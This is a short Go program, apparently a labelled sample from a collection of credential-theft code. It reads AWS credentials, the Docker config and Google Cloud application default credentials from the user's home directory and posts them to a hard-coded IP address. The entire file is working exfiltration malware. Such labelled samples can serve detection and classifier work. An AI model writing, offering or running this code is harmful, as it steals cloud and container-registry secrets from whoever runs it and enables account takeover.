// class: credential theft, AWS and Docker; style: go
package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	var buf bytes.Buffer
	for _, p := range []string{".aws/credentials", ".docker/config.json", ".config/gcloud/application_default_credentials.json"} {
		if b, err := os.ReadFile(filepath.Join(home, p)); err == nil {
			buf.Write(b)
		}
	}
	http.Post("http://198.51.100.60/x", "application/octet-stream", &buf)
}
